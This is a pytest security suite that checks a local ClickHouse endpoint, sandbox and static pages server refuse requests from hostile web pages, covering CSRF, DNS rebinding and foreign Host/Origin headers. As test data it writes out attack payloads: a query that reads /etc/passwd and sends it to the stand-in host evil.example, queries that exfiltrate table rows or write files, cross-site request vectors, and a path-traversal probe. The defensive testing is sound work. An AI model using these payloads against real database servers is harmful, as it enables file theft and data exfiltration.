"""A web page in a real browser, against the servers of a laptop: it reads nothing and changes nothing.

The endpoint of these tests has no password, so that only the judgement of the request stands in the way.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from starlette.testclient import TestClient

from zakaz_dagster.datalens import chromium
from zakaz_dagster.datalens.chromium import Tab
from zakaz_dagster.dev import pages
from zakaz_dagster_tests.contract.raw_http import send
from zakaz_dagster_tests.plugins.clickhouse import Endpoint, serving

BROWSER = chromium.find()
EVIL = "evil.example"  # a name that its owner points at 127.0.0.1
INSERT = "INSERT INTO hits VALUES (1)"
READ = "SELECT 'canary-31ab' FORMAT TSV"


@pytest.fixture(scope="module")
def open_endpoint(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Endpoint]:
    with serving(tmp_path_factory.mktemp("open"), password="") as endpoint:
        send(endpoint, "CREATE TABLE hits (a UInt8) ENGINE = Memory")
        yield endpoint


@pytest.fixture(scope="module")
def collected() -> list[str]:
    """What somebody else's site was told."""
    return []


@pytest.fixture(scope="module")
def evil(collected: list[str]) -> Iterator[str]:
    """A page of somebody else's site, which also collects what others send it."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            collected.append(f"{self.path} {self.rfile.read(int(self.headers.get('content-length') or 0))!r}")
            self.do_GET()

        def do_GET(self) -> None:
            collected.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>evil</title><body>evil")

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{EVIL}:{server.server_port}/"
        server.shutdown()


@pytest.fixture(scope="module")
def page(evil: str) -> Iterator[Tab]:
    if BROWSER is None:
        pytest.skip("no Chromium on PATH")
    with chromium.tab(BROWSER, f"--host-resolver-rules=MAP {EVIL} 127.0.0.1") as tab:
        tab.open(evil)
        tab.wait_for("document.title == 'evil'")
        yield tab


def image(url: str) -> str:
    return f"new Promise(d => {{const i = new Image(); i.onload = i.onerror = () => d(i.width); i.src = {url!r}}})"


def form(url: str, body: str) -> str:
    """A form that needs no script's permission to be sent anywhere, into a frame of the page."""
    return f"""new Promise(done => {{
        const frame = document.createElement("iframe"); frame.name = "f" + Math.random();
        document.body.append(frame);
        const form = document.createElement("form");
        Object.assign(form, {{method: "POST", enctype: "text/plain", action: {url!r}, target: frame.name}});
        const field = document.createElement("input"); field.name = {json.dumps(body)}; form.append(field);
        document.body.append(form);
        form.submit(); setTimeout(() => done(true), 700);
    }})"""


def fetch(url: str, options: dict[str, Any]) -> str:
    text = json.dumps(options)
    return f"fetch({url!r}, {text}).then(r => r.text().then(t => r.status + ' ' + t)).catch(e => 'blocked ' + e)"


def socket(url: str) -> str:
    return (
        f"new Promise(d => {{const s = new WebSocket({url!r}); s.onopen = () => d('open'); s.onerror = () => d('no')}})"
    )


def hits(endpoint: Endpoint) -> int:
    return int(send(endpoint, "SELECT count() FROM hits").text)


def test_the_same_insert_from_a_program_counts(open_endpoint):
    """The control: what the page cannot do is worth trying."""
    before = hits(open_endpoint)
    assert httpx.post(open_endpoint.url, content=INSERT, trust_env=False).status_code == 200
    assert hits(open_endpoint) == before + 1


@pytest.mark.parametrize("attack", [
    lambda url: image(f"{url}/?query={quote(INSERT)}"),
    lambda url: form(url, INSERT),
    lambda url: fetch(url, {"method": "POST", "body": INSERT, "mode": "no-cors"}),
    lambda url: fetch(url, {"method": "POST", "body": INSERT}),
    lambda url: fetch(f"{url}/?query={quote(INSERT)}", {"mode": "no-cors"}),
    lambda url: fetch(url, {"method": "POST", "body": INSERT, "mode": "no-cors", "credentials": "include"}),
    lambda url: socket(url.replace("http", "ws") + f"/?query={quote(INSERT)}"),
    lambda url: f"navigator.sendBeacon({url!r}, {json.dumps(INSERT)})",
], ids=["img", "form", "fetch no-cors", "fetch cors", "fetch get", "fetch with cookies", "WebSocket", "beacon"])  # fmt: skip
def test_a_page_changes_nothing(page, open_endpoint, attack):
    before = hits(open_endpoint)
    page.value(attack(open_endpoint.url))
    assert hits(open_endpoint) == before
    send(open_endpoint, "SYSTEM FLUSH LOGS")
    logged = "SELECT count() FROM system.query_log WHERE query LIKE 'INSERT INTO hits%' AND type = 'QueryFinish'"
    assert int(send(open_endpoint, logged).text) <= before


# The attack that once worked: the query comes with an <img>, reads files, and sends them to the page's own server.
STEAL = "INSERT INTO FUNCTION url('{evil}collect', 'TSV', 'x String') SELECT * FROM file('/etc/passwd', 'LineAsString')"
WRITE = "INSERT INTO FUNCTION file('{out}', 'CSV', 'x String') SELECT 'canary-31ab'"
REVENUE = "INSERT INTO FUNCTION url('{evil}collect', 'TSV', 'x String') SELECT toString(a) FROM hits"


@pytest.mark.parametrize("readonly", ["", "&readonly=2"])
@pytest.mark.parametrize("query", [STEAL, WRITE, REVENUE, "SELECT * FROM url('{evil}collect', 'LineAsString')"])
def test_the_attack_that_read_files_reads_and_writes_nothing(
    page, evil, collected, open_endpoint, tmp_path, query, readonly
):
    sql = query.format(evil=evil, out=tmp_path / "out")
    collected.clear()
    url = f"{open_endpoint.url}/?query={quote(sql)}{readonly}"
    for attack in (image(url), fetch(url, {"mode": "no-cors"}), form(open_endpoint.url, sql)):
        page.value(attack)
    assert collected == []
    assert list(tmp_path.iterdir()) == []
    assert send(open_endpoint, sql).status == 403, "nor does it for a program: the sources are closed"
    assert collected == []


ELEMENTS = {
    "script": "const e = document.createElement('script'); e.src = {url}; document.body.append(e);",
    "iframe": "const e = document.createElement('iframe'); e.src = {url}; document.body.append(e);",
    "stylesheet": "const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = {url}; document.head.append(e);",
    "object": "const e = document.createElement('object'); e.data = {url}; document.body.append(e);",
    "video": "const e = document.createElement('video'); e.src = {url}; document.body.append(e);",
    "CSS": "const e = document.createElement('div'); e.style.backgroundImage = `url(${{{url}}})`; document.body.append(e);",
    "EventSource": "const e = new EventSource({url});",
    "prefetch": "const e = document.createElement('link'); e.rel = 'prefetch'; e.href = {url}; document.head.append(e);",
    "worker": "try {{ new Worker({url}); }} catch (error) {{}}",
}


@pytest.mark.parametrize("element", ELEMENTS)
def test_no_element_of_a_page_gets_a_query_run(page, open_endpoint, element):
    before = hits(open_endpoint)
    url = json.dumps(f"{open_endpoint.url}/?query={quote(INSERT)}&n={element}")
    page.value(f"new Promise(done => {{ {ELEMENTS[element].format(url=url)} setTimeout(() => done(1), 250); }})")
    assert hits(open_endpoint) == before


@pytest.mark.parametrize("path", ["/", "/ping", f"/?query={quote(READ)}"])
def test_a_page_reads_nothing(page, open_endpoint, path):
    got = page.value(fetch(f"{open_endpoint.url}{path}", {}))
    assert got.startswith("blocked"), got
    assert page.value(image(f"{open_endpoint.url}{path}")) == 0


@pytest.mark.parametrize("server", ["clickhouse", "sandbox", "pages"])
def test_a_rebound_name_reads_nothing(page, evil, open_endpoint, sandbox, tmp_path, server):
    """The page's own name leads to this machine, so its requests are of one origin with what they ask."""
    (tmp_path / "index.html").write_text("canary-31ab")
    with serving_pages(tmp_path) as port:
        url = {
            "clickhouse": f"http://{EVIL}:{open_endpoint.port}/?query={quote(READ)}",
            "sandbox": f"http://{EVIL}:{sandbox.ready['port']}/world/personal",
            "pages": f"http://{EVIL}:{port}/",
        }[server]
        page.open(url)
        page.wait_for("document.readyState == 'complete' && location.href != 'about:blank'")
        shown = page.value("document.body.innerText")
        page.open(evil)
        page.wait_for("document.title == 'evil'")
    assert "not this machine" in shown
    assert "canary" not in shown


class serving_pages:  # noqa: N801 - used as a function
    """The pages' server in a thread."""

    def __init__(self, folder: Path) -> None:
        import uvicorn

        self.server = uvicorn.Server(uvicorn.Config(pages.build(folder), port=0, log_level="critical"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> int:
        self.thread.start()
        while not self.server.started:
            threading.Event().wait(0.02)
        return int(self.server.servers[0].sockets[0].getsockname()[1])

    def __exit__(self, *_: object) -> None:
        self.server.should_exit = True
        self.thread.join()


REFUSED = [
    {"Host": "evil.example"},
    {"Host": "evil.example:8123"},
    {"Host": "127.0.0.1.evil.example"},
    {"Host": "localhost.evil.example"},
    {"Host": "169.254.169.254"},
    {"Host": ""},
    {"Origin": "null"},
    {"Origin": "https://evil.example"},
    {"Origin": "http://localhost:3000"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
]


@pytest.mark.parametrize("method", ["GET", "POST", "HEAD", "OPTIONS"])
@pytest.mark.parametrize("headers", REFUSED, ids=str)
def test_foreign_requests_are_refused_whatever_their_method(clickhouse, headers, method):
    assert send(clickhouse, "SELECT 1" if method == "POST" else b"", method=method, headers=headers).status == 403


@pytest.mark.parametrize("path", ["/ping", "/replicas_status"])
def test_every_route_is_judged(clickhouse, path):
    assert send(clickhouse, method="GET", path=path, headers={"Host": "evil.example"}).status == 403


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.1:1", "localhost:8123", "LOCALHOST", "[::1]:8123"])
def test_this_machine_is_served_by_each_of_its_names(clickhouse, host):
    assert send(clickhouse, "SELECT 1", headers={"Host": host}).text == "1\n"


@pytest.mark.parametrize("headers", REFUSED[:3], ids=str)
def test_the_sandbox_refuses_a_foreign_host(sandbox, headers):
    assert httpx.get(f"{sandbox.url}/world", headers=headers, trust_env=False).status_code == 403


def test_the_pages_are_files_with_headers_and_no_listing(tmp_path):
    (tmp_path / "index.html").write_text("<p>index")
    (tmp_path / "folder").mkdir()
    client = TestClient(pages.build(tmp_path), base_url="http://127.0.0.1")
    assert client.get("/").text == "<p>index"
    assert client.get("/").headers["x-frame-options"] == "DENY"
    assert [client.get(path).status_code for path in ("/folder/", "/nope.html", "/%2e%2e/etc/passwd")] == [404] * 3
    assert client.get("/", headers={"Host": "evil.example"}).status_code == 403
